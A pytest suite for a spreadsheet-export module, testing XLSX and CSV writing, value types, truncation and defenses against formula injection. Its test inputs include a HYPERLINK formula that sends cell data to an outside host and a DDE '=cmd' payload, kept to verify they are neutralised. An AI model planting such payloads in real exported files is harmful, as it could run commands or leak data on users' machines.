"""Tables written as XLSX and CSV, read back with openpyxl and csv."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from units.spreadsheets import (
    LONGEST,
    from_csv_text,
    from_xlsx_text,
    to_csv_text,
    write_csv,
    write_xlsx,
)

LIKE_FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)"),
    *("\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "'=1", "''=1"),
    '=HYPERLINK("http://example.org/"&A1,"x")',
    "=cmd|'/c calc'!A0",
]
CODES = ["0912", "310107201709011234", "1E5", "000"]
ORDINARY = [
    "徐文清",
    "㐂",
    "𬭎",
    "阿卜杜拉·买买提",
    "a-b",
    "'n Dae",
    "2017年9月",
    "13912345678",
    "",
]
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def cells_of(content: bytes) -> list[list]:
    return [[cell.value for cell in row] for row in sheet_of(content).iter_rows()]


def table_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_xlsx_has_headings_and_rows_in_their_order():
    content = write_xlsx(["姓名", "党派"], [["徐文清", "民盟"], ["刘友霞", "民进"]], title="名册")
    assert cells_of(content) == [["姓名", "党派"], ["徐文清", "民盟"], ["刘友霞", "民进"]]
    assert sheet_of(content).title == "名册"


@pytest.mark.parametrize("text", [*LIKE_FORMULAS, *CODES, "#N/A", "TRUE"])
def test_xlsx_text_is_never_a_formula_nor_a_number(text):
    """Checks 45 and probe 20: formulas in every spelling, 0912, eighteen digits."""
    cell = sheet_of(write_xlsx(["甲"], [[text]], title="甲"))["A2"]
    assert (cell.data_type, cell.number_format) == ("s", "@")
    assert from_xlsx_text(cell.value) == text


def test_xlsx_heading_is_never_a_formula():
    cell = sheet_of(write_xlsx(["=1+1"], [], title="甲"))["A1"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def test_xlsx_keeps_kinds_of_values():
    at = datetime(2017, 12, 31, 16, 0, tzinfo=UTC)  # midnight in Shanghai, the next day
    values = [date(2017, 9, 1), 19, Decimal("1500.10"), None, at, True]
    row = list(sheet_of(write_xlsx(list("甲乙丙丁戊己"), [values], title="甲")).iter_rows())[1]
    assert [cell.value for cell in row] == [
        datetime(2017, 9, 1),  # noqa: DTZ001 - a spreadsheet knows no time zones
        19,
        1500.1,
        None,
        datetime(2018, 1, 1),  # noqa: DTZ001
        "是",
    ]
    assert [cell.number_format for cell in row[:3]] == ["yyyy-mm-dd", "General", "0.00"]


def test_xlsx_day_before_1900_is_text():
    """Excel has no such day; a negative number would show as #####."""
    assert cells_of(write_xlsx(["甲"], [[date(1899, 12, 31)]], title="甲"))[1] == ["1899-12-31"]


def test_xlsx_text_too_long_is_cut_with_a_mark():
    (text,) = cells_of(write_xlsx(["甲"], [["长" * (LONGEST + 1)]], title="甲"))[1]
    assert len(text) == LONGEST
    assert text.endswith("长[此处截断：单元格最多容纳 32767 个字符]")


@pytest.mark.parametrize(
    ("title", "name"),
    [("2017/2018: [甲]*?\\", "2017 2018   甲"), ("长" * 40, "长" * 31), ("///", "1")],
)
def test_xlsx_title_is_a_possible_name(title, name):
    assert sheet_of(write_xlsx(["甲"], [], title=title)).title == name


def test_xlsx_names_nobody():
    """Metadata of a file that leaves the house."""
    with zipfile.ZipFile(io.BytesIO(write_xlsx(["甲"], [], title="甲"))) as archive:
        assert b"creator" not in archive.read("docProps/core.xml")


def test_xlsx_rows_may_be_a_generator_longer_than_what_is_measured():
    content = write_xlsx(["甲"], ([number] for number in range(500)), title="甲")
    assert [row[0] for row in cells_of(content)[1:]] == list(range(500))


@given(ANY_TEXT)
def test_xlsx_gives_every_text_back(text):
    """Check 89, characters included that XML cannot hold."""
    cell = sheet_of(write_xlsx(["甲"], [[text]], title="甲"))["A2"]
    assert from_xlsx_text(cell.value or "") == text
    assert cell.data_type == ("s" if text else "n")  # an empty cell is no text


def test_csv_begins_with_the_mark_that_excel_knows():
    assert write_csv(["姓名"], [["徐文清"]]) == b"\xef\xbb\xbf" + "姓名\r\n徐文清\r\n".encode()


@pytest.mark.parametrize("text", LIKE_FORMULAS)
def test_csv_text_begins_with_no_formula(text):
    """Check 45."""
    ((written,),) = table_of(write_csv(["甲"], [[text]]))[1:]
    assert written == f"'{text}"
    assert from_csv_text(written) == text


@pytest.mark.parametrize("text", CODES)
def test_csv_code_stays_text(text):
    """Probe 20."""
    assert table_of(write_csv(["甲"], [[text]]))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", ORDINARY)
def test_csv_ordinary_text_is_written_as_it_is(text):
    assert to_csv_text(text) == text == from_csv_text(text)


def test_csv_keeps_kinds_of_values():
    values = [date(2017, 9, 1), -3, Decimal("1500.10"), None, False]
    row = table_of(write_csv(list("甲乙丙丁戊"), [values]))[1]
    assert row == ["2017-09-01", "-3", "1500.10", "", "否"]


@given(ANY_TEXT.filter(lambda text: "\x00" not in text))
def test_csv_gives_every_text_back(text):
    rows = table_of(write_csv(["甲"], [[text, "末"]]))
    assert from_csv_text(rows[1][0]) == text
